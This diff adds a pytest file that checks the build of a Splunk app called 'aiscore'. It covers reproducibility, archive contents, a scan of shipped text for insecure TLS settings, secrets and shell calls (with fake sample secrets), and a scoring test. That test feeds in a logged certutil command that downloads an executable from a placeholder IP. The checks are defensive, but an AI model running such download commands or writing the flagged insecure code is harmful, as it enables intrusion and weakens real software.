@@ -1,0 +1,189 @@
+"""The package: reproducible, complete, and nothing in it that does not belong."""
+import hashlib
+import json
+import re
+import shutil
+import subprocess
+import tarfile
+
+import confs
+import pytest
+from conftest import build
+
+TEXT = {".py", ".conf", ".xml", ".html", ".json", ".md", ".txt", ".toml", ".meta", ".spec", ".yml", ".yaml", ".csv",
+        ".js", ".css", ".service", ".manifest", ""}
+
+
+def texts(folder):
+    """(path inside the app, text) of every shipped file that people can read."""
+    for path in sorted(folder.rglob("*")):
+        if path.is_file() and path.suffix in TEXT:
+            yield path.relative_to(folder).as_posix(), path.read_text(encoding="utf-8")
+
+
+def test_two_builds_give_one_digest(package, tmp_path):
+    again, printed = build(tmp_path, umask=0o077, TZ="Asia/Tokyo", LC_ALL="C.UTF-8")
+    digests = {hashlib.sha256(path.read_bytes()).hexdigest() for path in (package, again)}
+    assert len(digests) == 1
+    assert f"sha256 {digests.pop()}" in printed
+    assert f"bytes  {again.stat().st_size}" in printed
+
+
+def test_time_of_the_files_is_the_one_asked_for(package, tmp_path):
+    other, _ = build(tmp_path, SOURCE_DATE_EPOCH="1700000000")
+    with tarfile.open(package) as ours, tarfile.open(other) as theirs:
+        assert {member.mtime for member in ours} == {1767225600}
+        assert {member.mtime for member in theirs} == {1700000000}
+
+
+def test_archive_has_one_top_folder_plain_modes_and_no_owner(package):
+    with tarfile.open(package) as archive:
+        members = archive.getmembers()
+        assert archive.format == tarfile.USTAR_FORMAT or not archive.pax_headers
+    assert {member.name.split("/")[0] for member in members} == {"aiscore"}
+    assert {(member.uid, member.gid, member.uname, member.gname) for member in members} == {(0, 0, "", "")}
+    assert {member.mode for member in members if member.isdir()} == {0o755}
+    assert {member.mode for member in members if member.isfile()} == {0o644}
+    assert all(member.isdir() or member.isfile() for member in members)
+    names = [member.name for member in members]
+    assert len(names) == len(set(names))
+    assert [name for name in names if "/" not in name.removeprefix("aiscore/")] == sorted(
+        name for name in names if "/" not in name.removeprefix("aiscore/"))
+
+
+def test_gzip_header_holds_no_name_and_no_time(package):
+    assert package.read_bytes()[:8] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00"
+
+
+def test_nothing_is_shipped_that_only_developers_need(unpacked):
+    names = [path.relative_to(unpacked).as_posix() for path in unpacked.rglob("*")]
+    bad = [name for name in names if re.search(
+        r"(^|/)(tests?|build|dist|local|node_modules|__pycache__|\.[^/]*)(/|$)|\.(pyc|pyo|so|pem|key|pkl|pickle|joblib)$"
+        r"|^(package\.sh|Makefile|ui)(/|$)|(^|/)(test_[^/]*|conftest)\.py$", name)]
+    assert bad == []
+
+
+@pytest.mark.parametrize("name", [
+    "app.manifest", "LICENSE", "default/app.conf", "default/commands.conf", "default/aiscore.conf", "metadata/default.meta",
+    "README/aiscore.conf.spec", "static/appIcon.png", "static/appIcon_2x.png", "lib/aiscore_contract/ticket.py",
+    "default/data/ui/views/aiscore_overview.xml", "pyproject.toml",
+])
+def test_package_holds(unpacked, name):
+    assert (unpacked / name).is_file()
+
+
+def test_package_holds_every_module_of_the_tree(unpacked):
+    for folder in ("bin", "lib", "scorer"):
+        there = {path.relative_to(confs.APP).as_posix() for path in (confs.APP / folder).rglob("*.py")}
+        shipped = {path.relative_to(unpacked).as_posix() for path in (unpacked / folder).rglob("*.py")}
+        assert {name for name in there - shipped if "__pycache__" not in name} == set()
+
+
+def test_package_stays_small_enough_for_splunkbase_and_cloud(package):
+    assert package.stat().st_size < 60 * 1024 * 1024
+
+
+def test_bundle_that_ships_is_within_its_bound(unpacked):
+    if not (unpacked / "scorer/bundle").is_dir():
+        pytest.skip("there is no bundle yet")
+    assert sum(path.stat().st_size for path in (unpacked / "scorer/bundle").rglob("*") if path.is_file()) < 25 * 1024 * 1024
+    manifest = json.loads((unpacked / "scorer/bundle/manifest.json").read_text())
+    assert manifest
+
+
+# -- what AppInspect does not notice ---------------------------------------------------------------
+
+#: Pattern and what it would mean. Looked for in everything that people can read.
+FORBIDDEN = {
+    r"CERT_NONE": "a certificate is not verified",
+    r"check_hostname\s*=\s*False": "a host name is not verified",
+    r"_create_unverified_context": "a certificate is not verified",
+    r"verify(_ssl|_mode)?\s*[=:]\s*(False|false|0)\b": "verification is turned off",
+    r"(?m)^\s*verify\w*\s*=\s*(false|0|no)\s*$": "verification is turned off by a setting",
+    r"-----BEGIN [A-Z ]*PRIVATE KEY-----": "a private key",
+    r"""(?i)\b(password|passwd|secret|api_?key|auth_?token|private_key)\b\s*[=:]\s*["'](?=[^"']*\d)[^"'{}<>«»$\s]{12,}["']""": "a secret",
+    r"(?m)^\s*[A-Za-z0-9_-]{1,32} [0-9a-fA-F]{64}\s*$": "a key of a key file",
+    r"\bpickle\.loads?\(|\bjoblib\.load\(|\bmarshal\.loads?\(": "code loaded from data",
+    r"\beval\((?!\w*\s*==)[^)]*\brequest": "code run from a request",
+    r"\bshell\s*=\s*True": "a shell",
+    r"\bos\.system\(": "a shell",
+    r"\b(AKIA|ASIA)[0-9A-Z]{16}\b": "a cloud access key",
+}
+#: Sigma rules quote what attackers type; their patterns are texts that are looked for, not settings of ours.
+QUOTES_ATTACKS = ("rules/", "lib/aiscore_rules/pack/")
+
+
+def findings(name, text):
+    if name.startswith(QUOTES_ATTACKS):
+        return []
+    return [f"{name}: {meaning}: {match[0][:60]!r}" for pattern, meaning in FORBIDDEN.items()
+            for match in re.finditer(pattern, text)]
+
+
+def test_package_holds_no_secret_and_verifies_every_certificate(unpacked):
+    assert [found for name, text in texts(unpacked) for found in findings(name, text)] == []
+
+
+@pytest.mark.parametrize("text", [
+    "context.verify_mode = ssl.CERT_NONE", "context.check_hostname = False", "requests.get(url, verify=False)",
+    "verify_tls = false", "-----BEGIN EC PRIVATE KEY-----", 'password = "hunter2hunter2"', "k1 " + "ab" * 32,
+    "pickle.load(open(path))", "subprocess.run(line, shell=True)", "AKIA" + "A1B2C3D4E5F6G7H8",
+])
+def test_scan_sees(text):
+    assert findings("lib/x.py", text)
+
+
+def test_package_names_no_folder_of_the_machine_that_built_it(unpacked):
+    assert [name for name, text in texts(unpacked) if str(confs.APP) in text] == []
+
+
+# -- what an indexer gets --------------------------------------------------------------------------
+
+def chunk(metadata, body=b""):
+    head = json.dumps(metadata).encode()
+    return b"chunked 1.0,%d,%d\n" % (len(head), len(body)) + head + body
+
+
+def replies(stream):
+    """(metadata, body) of every reply in `stream`."""
+    found = []
+    while stream:
+        head, _, stream = stream.partition(b"\n")
+        metadata, body = map(int, re.fullmatch(rb"chunked 1\.0,(\d+),(\d+)", head).groups())
+        found.append((json.loads(stream[:metadata]), stream[metadata:metadata + body].decode()))
+        stream = stream[metadata + body:]
+    return found
+
+
+@pytest.fixture
+def search_bundle(unpacked, tmp_path):
+    """What splunkd's search bundle brings to an indexer: bin/, lookups/, and by our allow-list lib/."""
+    app = tmp_path / "aiscore"
+    for folder in ("bin", "lib", "lookups"):
+        if (unpacked / folder).is_dir():
+            shutil.copytree(unpacked / folder, app / folder)
+    return app
+
+
+@pytest.mark.parametrize("python", ["py39", "py313"])
+def test_rules_score_on_an_indexer_with_nothing_but_the_search_bundle(search_bundle, python, tmp_path):
+    if not (search_bundle / "bin/aiscore.py").exists():
+        pytest.skip("bin/aiscore.py is not there")
+    interpreter = confs.APP / "build/venv" / python / "bin/python"
+    if not interpreter.exists():
+        pytest.skip(f"{interpreter} is not installed")
+    searchinfo = {"args": ["field=_raw", "mode=rules"], "raw_args": ["field=_raw", "mode=rules"], "sid": "remote_1",
+                  "command": "aiscore", "splunk_version": "9.4.0", "app": "aiscore", "owner": "analyst",
+                  "username": "analyst", "dispatch_dir": str(tmp_path), "maxresultrows": 50000}
+    body = (b'_chunked_idx,_raw\n0,"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"\n'
+            b'1,"user logged in"\n')
+    asked = chunk({"action": "getinfo", "preview": False, "searchinfo": searchinfo})
+    asked += chunk({"action": "execute", "finished": True}, body)
+    done = subprocess.run([str(interpreter), str(search_bundle / "bin/aiscore.py")], input=asked, capture_output=True,
+                          env={"PATH": "/usr/bin:/bin"}, cwd=tmp_path, timeout=60, check=False)
+    assert (done.returncode, done.stderr) == (0, b"")
+    (info, _), (_, scored) = replies(done.stdout)
+    assert info["type"] == "streaming"
+    rows = scored.strip().split("\n")
+    assert len(rows) == 3 and "ai_score" in rows[0]
+    assert all("rules" in row for row in rows[1:])
